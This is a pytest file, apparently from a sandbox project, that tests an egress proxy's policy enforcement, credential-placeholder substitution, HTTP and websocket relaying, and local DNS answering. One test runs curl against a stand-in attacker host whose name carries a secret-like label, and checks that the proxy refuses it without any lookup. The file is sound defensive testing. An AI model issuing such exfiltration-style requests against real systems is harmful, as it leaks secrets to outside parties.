"""Real programs and sockets in a real namespace, through the egress service, to a TLS upstream on loopback."""

import asyncio
import base64
import json
import socket
import struct

import pytest

from oce.policy.model import Access, Enforcement, Protocol, Tls
from oce.sandboxd.egress.model import BoundEndpoint, CredentialBinding
from oce.sandboxd.egress.names import address_v4
from oce.testing.egress_rig import PYTHON, answer_ok
from oce.testing.egress_served import (
    API,
    OTHER,
    PLACEHOLDER,
    SECRET,
    api_endpoint,
    hang_up,
    policy_of,
)

pytestmark = pytest.mark.sandbox
CURL = "/usr/bin/curl"


async def curl(served, *arguments):
    return await served.inside.run(CURL, "-sS", "--cacert", str(served.ca_file), *arguments)


async def test_an_allowed_program_reaches_its_upstream_with_the_real_credential(served):
    served.apply(policy_of(api_endpoint(), binaries=(CURL,)))
    ran = await curl(
        served, "-H", f"Authorization: Bearer {PLACEHOLDER}", f"https://{API}/v1/models?a=b"
    )
    assert (ran.code, ran.out) == (0, "ok"), ran
    (seen,) = served.upstream.seen
    assert seen.line == "GET /v1/models?a=b HTTP/1.1"
    assert seen.all("authorization") == [f"Bearer {SECRET}"]
    assert seen.all("host") == [API]
    await served.settled(lambda: any(d.activity == "HTTP:GET" for d in served.decisions))
    told = served.decisions[-1]
    assert (told.allowed, told.rule, told.binary, told.host, told.path) == (
        True,
        "models",
        CURL,
        API,
        "/v1/models",
    )


async def test_another_program_gets_an_explained_refusal_and_nothing_is_dialled(served):
    ran = await curl(
        served, "-H", f"Authorization: Bearer {PLACEHOLDER}", f"https://{API}/v1/models"
    )
    answer = json.loads(ran.out)
    assert answer["error"] == "policy_denied"
    assert answer["binary"] == CURL
    assert answer["policy"] == "models"
    assert CURL in answer["next_steps"][0]
    assert served.upstream.accepted == 0


async def test_a_denied_name_is_answered_with_403_and_no_lookup(served):
    ran = await curl(served, "https://secret-1234.attacker.example/")
    assert json.loads(ran.out)["error"] == "policy_denied"
    assert served.queries == []
    await served.settled(
        lambda: any(d.activity == "DNS:QUERY" and not d.allowed for d in served.decisions)
    )


async def test_events_are_passed_on_one_by_one(served):
    gate = asyncio.Event()

    async def script(_, writer):
        writer.write(
            b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nTransfer-Encoding: chunked\r\n\r\n"
        )
        writer.write(b"9\r\ndata: 1\n\n\r\n")
        await writer.drain()
        await gate.wait()
        writer.write(b"9\r\ndata: 2\n\n\r\n0\r\n\r\n")
        return True

    served.upstream.script = script
    reader, writer = await served.open()
    writer.write(b"GET /v1/stream HTTP/1.1\r\nHost: api.models.example\r\n\r\n")
    async with asyncio.timeout(5):
        head = await reader.readuntil(b"\r\n\r\n")
        assert b"transfer-encoding: chunked" in head.lower()
        assert await reader.readuntil(b"data: 1\n\n\r\n")
        gate.set()
        assert (await reader.readuntil(b"0\r\n\r\n")).startswith(b"9\r\ndata: 2")
    await hang_up(writer)


async def test_a_broken_response_looks_broken(served):
    async def script(_, writer):
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\nshort")
        await writer.drain()
        return False

    served.upstream.script = script
    served.apply(policy_of(api_endpoint(), binaries=(CURL,)))
    ran = await curl(served, f"https://{API}/v1/x")
    assert ran.code in (18, 56), ran


async def test_connections_are_reused_on_both_sides_and_every_request_is_judged(served):
    served.apply(policy_of(api_endpoint(access=Access.READ_ONLY)))
    reader, writer = await served.open()
    for _ in range(3):
        writer.write(b"GET /v1/x HTTP/1.1\r\nHost: api.models.example\r\n\r\n")
        async with asyncio.timeout(5):
            assert (await reader.readuntil(b"ok")).startswith(b"HTTP/1.1 200")
    writer.write(b"DELETE /v1/x HTTP/1.1\r\nHost: api.models.example\r\n\r\n")
    async with asyncio.timeout(5):
        assert (await reader.read()).startswith(b"HTTP/1.1 403")
    assert (served.upstream.accepted, len(served.upstream.seen)) == (1, 3)
    await hang_up(writer)


async def test_a_chunked_body_of_odd_pieces_arrives_whole_with_its_trailer(served):
    body = bytes(range(256)) * 800
    pieces, at = [], 0
    while at < len(body):
        size = (at * 7) % 4093 + 1
        pieces.append(body[at : at + size])
        at += size
    raw = b"".join(b"%x;note=1\r\n%b\r\n" % (len(p), p) for p in pieces) + b"0\r\nX-Sum: 9\r\n\r\n"
    head = b"POST /v1/x HTTP/1.1\r\nHost: api.models.example\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
    answer = await served.exchange(head + raw)
    assert answer.startswith(b"HTTP/1.1 200"), answer
    (seen,) = served.upstream.seen
    assert seen.body == body
    assert seen.all("trailer:x-sum") == ["9"]


async def test_an_expected_continue_is_relayed_and_two_mebibytes_flow(served):
    served.apply(policy_of(api_endpoint(), binaries=(CURL,)))
    ran = await served.inside.run(
        "/bin/sh", "-c",
        f"head -c 2097152 /dev/zero | {CURL} -sS --cacert {served.ca_file} -H 'Expect: 100-continue'"
        f" --expect100-timeout 60 -H 'Content-Type: x/y' --data-binary @- https://{API}/v1/up",
    )  # fmt: skip
    assert ran.out == "ok", ran
    assert len(served.upstream.seen[0].body) == 2 * 1024 * 1024


async def test_an_upgrade_carries_bytes_that_came_with_the_101_and_both_ways(served):
    async def script(seen, writer):
        assert seen.all("upgrade") == ["websocket"]
        writer.write(
            b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n\x81\x02hi"
        )
        while data := await seen.reader.read(1024):
            writer.write(data[::-1])
        return False

    served.upstream.script = script
    reader, writer = await served.open()
    writer.write(
        b"GET /v1/ws HTTP/1.1\r\nHost: api.models.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
        b"Sec-WebSocket-Key: eA==\r\nAuthorization: Bearer openshell:resolve:env:OPENAI_API_KEY\r\n\r\n"
    )
    async with asyncio.timeout(5):
        assert (await reader.readuntil(b"\r\n\r\n")).startswith(b"HTTP/1.1 101")
        assert await reader.readexactly(4) == b"\x81\x02hi"
        writer.write(b"abc")
        assert await reader.readexactly(3) == b"cba"
        # A policy that no longer allows the host ends the relay.
        served.apply(policy_of(api_endpoint(OTHER)))
        with pytest.raises((ConnectionError, EOFError)):
            await reader.readexactly(1)
    await hang_up(writer)
    assert served.upstream.seen[0].all("authorization") == [f"Bearer {SECRET}"]


async def test_a_refused_upgrade_is_an_ordinary_answer(served):
    async def script(_, writer):
        writer.write(b"HTTP/1.1 426 Upgrade Required\r\nContent-Length: 0\r\n\r\n")
        return True

    served.upstream.script = script
    reader, writer = await served.open()
    writer.write(
        b"GET /v1/responses HTTP/1.1\r\nHost: api.models.example\r\nConnection: upgrade\r\nUpgrade: websocket\r\n\r\n"
    )
    async with asyncio.timeout(5):
        assert b" 426 " in await reader.readuntil(b"\r\n\r\n")
        served.upstream.script = answer_ok
        writer.write(
            b"POST /v1/responses HTTP/1.1\r\nHost: api.models.example\r\nContent-Length: 2\r\n\r\n{}"
        )
        assert b" 200 " in await reader.readuntil(b"ok")
    await hang_up(writer)


async def test_the_credential_is_replaced_inside_basic_path_and_query(served):
    binding = CredentialBinding(
        provider_id="p1", provider_name="openai", credential_key="OPENAI_API_KEY", placeholder=PLACEHOLDER,
        endpoints=(BoundEndpoint(host=API, port=443),),
    )  # fmt: skip
    served.service.put_credentials("p1", 2, {"OPENAI_API_KEY": "a/b?c&d"})
    served.apply(policy_of(api_endpoint()), bindings=(binding,))
    basic = base64.b64encode(b"user:" + PLACEHOLDER.encode()).decode()
    raw = (
        f"GET /bot{PLACEHOLDER}/send?key=openshell%3Aresolve%3Aenv%3AOPENAI_API_KEY&x=1 HTTP/1.1\r\n"
        f"Host: {API}\r\nAuthorization: Basic {basic}\r\nConnection: close\r\n\r\n"
    )
    assert (await served.exchange(raw.encode())).startswith(b"HTTP/1.1 200")
    (seen,) = served.upstream.seen
    assert seen.line == "GET /bota%2Fb%3Fc%26d/send?key=a%2Fb%3Fc%26d&x=1 HTTP/1.1"
    assert seen.all("authorization") == ["Basic " + base64.b64encode(b"user:a/b?c&d").decode()]


async def test_an_audit_endpoint_passes_and_says_what_enforce_would_have_done(served):
    served.apply(policy_of(api_endpoint(access=Access.READ_ONLY, enforcement=Enforcement.AUDIT)))
    answer = await served.exchange(
        b"DELETE /v1/x HTTP/1.1\r\nHost: api.models.example\r\nConnection: close\r\n\r\n"
    )
    assert answer.startswith(b"HTTP/1.1 200")
    await served.settled(lambda: any(d.reason.startswith("audit: ") for d in served.decisions))


async def test_skipped_tls_is_relayed_unread_to_the_named_host(served):
    served.apply(
        policy_of(api_endpoint(protocol=Protocol.TCP, access=Access.NONE, tls=Tls.SKIP)),
        bindings=(),
    )
    upstream_ca = served.ca_file.parent / "upstream-ca.pem"
    served.trust.load_verify_locations(upstream_ca)
    reader, writer = await served.open()
    issuer = dict(item[0] for item in writer.get_extra_info("peercert")["issuer"])
    assert issuer["commonName"] == "test root"
    writer.write(b"GET / HTTP/1.1\r\n\r\n")
    async with asyncio.timeout(5):
        assert (await reader.readuntil(b"ok")).startswith(b"HTTP/1.1 200")
    await hang_up(writer)


async def test_names_are_answered_here_also_for_a_hard_coded_resolver_and_over_tcp(served):
    def query(name, kind):
        labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
        return (
            struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0)
            + labels
            + b"\0"
            + struct.pack("!HH", kind, 1)
        )

    loop = asyncio.get_running_loop()
    for resolver in ("198.18.0.1", "8.8.8.8", "fd7a:5bcd::1", "2001:4860:4860::8888"):
        sock = await served.inside.connect(resolver, 53, udp=True)
        await loop.sock_sendall(sock, query(API, 1))
        async with asyncio.timeout(5):
            reply = await loop.sock_recv(sock, 512)
        assert reply.endswith(address_v4(API))
        sock.close()
    reader, writer = await asyncio.open_connection(sock=await served.inside.connect("9.9.9.9", 53))
    message = query("x.example", 28)
    writer.write(len(message).to_bytes(2) + message)
    async with asyncio.timeout(5):
        size = int.from_bytes(await reader.readexactly(2))
        reply = await reader.readexactly(size)
    assert socket.inet_ntop(socket.AF_INET6, reply[-16:]).startswith("fd7a:5bcd:1:")
    await hang_up(writer)
    assert served.queries == []


async def test_a_cached_address_still_means_its_name_after_a_restart(served):
    """No DNS question is asked here at all: the TLS name must hash to the address that was dialled."""
    answer = await served.exchange(
        b"GET /v1/x HTTP/1.1\r\nHost: api.models.example\r\nConnection: close\r\n\r\n"
    )
    assert answer.startswith(b"HTTP/1.1 200")
    v6 = await served.inside.run(
        PYTHON, "-c", "import socket;print(socket.getaddrinfo('api.models.example',443)[0][4][0])"
    )
    assert v6.out.strip().startswith(("fd7a:5bcd:1:", "198.18.", "198.19."))
